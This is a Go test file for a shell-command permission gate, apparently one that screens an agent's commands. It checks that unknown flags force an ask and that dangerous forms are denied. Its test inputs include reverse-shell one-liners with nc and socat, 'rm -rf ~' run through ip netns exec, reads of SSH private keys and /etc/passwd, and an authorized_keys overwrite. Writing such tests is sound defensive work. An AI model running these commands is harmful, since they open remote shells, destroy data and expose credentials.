package gate

import (
	"slices"
	"strings"
	"testing"

	"github.com/perm-peer/perm-peer/gate/internal/argv"
	"github.com/perm-peer/perm-peer/gate/internal/cmds"
	"github.com/perm-peer/perm-peer/protocol"
	"github.com/stretchr/testify/assert"
)

// An invented flag makes every known-safe form ask (SPEC §5.1), while
// the same form without it stays allowed.
func TestUnknownFlagNotSafe(t *testing.T) {
	e := env(protocol.Policy{})
	for _, cmd := range []string{
		"git log", "git status", "git diff", "git show HEAD", "git branch", "git blame README.md", "git ls-files", "git rev-parse HEAD",
		"git tag", "git describe", "git shortlog", "git reflog", "git ls-tree HEAD", "git cat-file -p HEAD", "git stash list",
		"git -C src log", "rg foo", "grep foo README.md", "grep -rn foo .", "ag foo", "ack foo", "jq . a.json", "yq . a.yaml",
		"find . -name x", "fd x", "docker ps", "docker images", "docker logs web", "docker compose ps", "go version", "go env",
		"go list ./...", "npm ls", "npm view react", "pip list", "systemctl status nginx", "date +%s", "ps aux", "printenv HOME",
		"which go", "realpath README.md", "zipinfo a.zip", "uname -a", "whoami", "hostname", "lsof -i :8080", "pgrep -fl node",
		"tee", "gofmt -l .", "seq 1 5",
	} {
		v := Analyze(bash(cmd), e)
		assert.NotEqual(t, protocol.DecisionDeny, v.Decision, cmd)
		bogus := Analyze(bash(cmd+" --zz-bogus"), e)
		assert.Equal(t, protocol.DecisionAsk, bogus.Decision, cmd+" --zz-bogus")
		assert.Contains(t, codes(bogus), "ask.flag", cmd+" --zz-bogus")
		assert.NotContains(t, codes(v), "ask.flag", cmd)
	}
	// flags that write or run something are left out of the table
	for _, cmd := range []string{"rg --pre cat foo", "rg --hostname-bin ./x foo", "git log --output=out.txt", "yq -i .a=1 a.yaml",
		"git blame --contents=~/.ssh/id_rsa main.go", "fd -x rm", "date -s 2020-01-01"} {
		assert.NotEqual(t, protocol.DecisionAllow, Analyze(bash(cmd), e).Decision, cmd)
	}
}

func codes(v Verdict) []string {
	var out []string
	for _, r := range v.Reasons {
		out = append(out, r.Code)
	}
	return out
}

// unknownFlagReason reports a verdict that names a flag the gate does
// not know.
func unknownFlagReason(v Verdict) bool {
	for _, r := range v.Reasons {
		if r.Code == "ask.flag" && strings.Contains(r.Detail, "does not know") {
			return true
		}
	}
	return false
}

// Every example of the table runs through Analyze: one with an unknown
// flag is not allowed, one without never asks for an unknown flag, and
// one that states the answer (Want) gets it.
func TestTableExamplesDecide(t *testing.T) {
	e := env(protocol.Policy{})
	n, wants := 0, 0
	var walk func(prefix string, cs []*argv.Command)
	walk = func(prefix string, cs []*argv.Command) {
		for _, c := range cs {
			name := strings.TrimSpace(prefix + " " + c.Name)
			for _, ex := range c.Examples {
				n++
				v := Analyze(bash(name+" "+ex.Args), e)
				if ex.Unknown != "" {
					assert.NotEqual(t, protocol.DecisionAllow, v.Decision, name+" "+ex.Args)
				}
				if ex.Unknown == "" {
					assert.False(t, unknownFlagReason(v), name+" "+ex.Args)
				}
				if ex.Want != "" {
					wants++
					assert.Equal(t, ex.Want, answerOf(v, ex.Want), name+" "+ex.Args)
				}
			}
			walk(name, c.Subs)
		}
	}
	walk("", cmds.All())
	assert.Greater(t, n, 100)
	assert.Greater(t, wants, 40)
}

// Every wrapper's examples run through Analyze and get the answer they
// state: the command inside is reached through the wrapper.
func TestWrapperExamplesDecide(t *testing.T) {
	e := env(protocol.Policy{})
	n := 0
	for _, w := range cmds.Wrappers() {
		assert.NotEmpty(t, w.Examples, w.Name)
		n += examplesDecide(t, e, w.Name, w.Examples)
	}
	assert.Greater(t, n, 90)
}

// The spellings of three classes decide like their plain form (T4): ip's
// global options before netns exec, ssh-keygen's -f in a cluster, and
// telnet's -e (escape character) and -c (no .telnetrc), which run nothing.
func TestSpellingsOfClasses(t *testing.T) {
	e := env(protocol.Policy{})
	for _, cmd := range []string{"ip netns exec x rm -rf ~", "ip -4 netns exec x rm -rf ~", "ip -n y netns exec x rm -rf ~", "ip -all netns exec rm -rf ~"} {
		assert.Equal(t, "floor.rm-root", Analyze(bash(cmd), e).Reasons[0].Code, cmd)
	}
	for _, cmd := range []string{"ssh-keygen -f ~/.ssh/authorized_keys", "ssh-keygen -qf ~/.ssh/authorized_keys", "ssh-keygen -q -t ed25519 -f ~/.ssh/authorized_keys"} {
		v := Analyze(bash(cmd), e)
		assert.True(t, v.HumanOnly, cmd)
		assert.Contains(t, codes(v), "human.persistence-write", cmd)
	}
	for _, cmd := range []string{"telnet -e ^ example.com 23", "telnet -c example.com 23", "openssl s_client -connect example.com:443 -e x"} {
		assert.Equal(t, protocol.DecisionAsk, Analyze(bash(cmd), e).Decision, cmd)
	}
	assert.Equal(t, protocol.DecisionDeny, Analyze(bash("nc -e /bin/sh example.com 23"), e).Decision)
	assert.Equal(t, protocol.DecisionDeny, Analyze(bash("socat exec:/bin/sh tcp:example.com:23"), e).Decision)
}

// A short spelling takes its own arity (T2): uniq -Df 1 in.txt reads
// in.txt (-D takes no value, -f takes 1) and writes nothing; sort -cu
// keeps -u; tail -fn 5 follows x.
func TestShortSpellingArity(t *testing.T) {
	e := env(protocol.Policy{})
	for _, cmd := range []string{"uniq -Df 1 README.md", "uniq -D -f 1 README.md", "sort -cu README.md", "tail -fn 5 README.md", "sort --check=quiet README.md"} {
		assert.Equal(t, protocol.DecisionAllow, Analyze(bash(cmd), e).Decision, cmd)
	}
	for _, cmd := range []string{"sort -cX README.md", "tail -f/etc/passwd", "uniq -Df 1 README.md out.txt"} {
		assert.NotEqual(t, protocol.DecisionAllow, Analyze(bash(cmd), e).Decision, cmd)
	}
}

// examplesDecide runs each example of program name through Analyze and
// checks the answer it states (argv.Example.Want); it returns how many ran.
func examplesDecide(t *testing.T, e Env, name string, exs []argv.Example) int {
	t.Helper()
	for _, ex := range exs {
		call := strings.TrimSpace(name + " " + ex.Args)
		assert.Equal(t, ex.Want, answerOf(Analyze(bash(call), e), ex.Want), call)
	}
	return len(exs)
}

// answerOf is v as an example's Want reads it: the decision ("human" for
// an ask only a person may approve), and the reason code want names when
// v carries it.
func answerOf(v Verdict, want string) string {
	got := string(v.Decision)
	if v.HumanOnly && v.Decision == protocol.DecisionAsk {
		got = "human"
	}
	if _, code, ok := strings.Cut(want, " "); ok && slices.Contains(codes(v), code) {
		got += " " + code
	}
	return got
}

// TestIgnoredNeverSafe checks the table's entries whose flags are not
// declared (argv.Ignore): each is a program the gate never finds
// known-safe, so a flag it lacks changes no answer. An entry that could be
// known-safe must declare its flags (Ask) or say its words are data
// (Words: echo, test).
func TestIgnoredNeverSafe(t *testing.T) {
	e := env(protocol.Policy{})
	never := []argv.Class{argv.Files, argv.Disk, argv.Formatter, argv.ShellServer, argv.Pager, argv.Installer}
	n := 0
	for _, c := range cmds.All() {
		if c.Unknown != argv.Ignore {
			continue
		}
		n++
		assert.Contains(t, never, c.Class, "%s ignores unknown flags but its class may be known-safe", c.Name)
		for _, call := range []string{c.Name, c.Name + " --zz-bogus README.md", c.Name + " -Z README.md"} {
			assert.NotEqual(t, protocol.DecisionAllow, Analyze(bash(call), e).Decision, call)
		}
	}
	assert.Greater(t, n, 50)
}
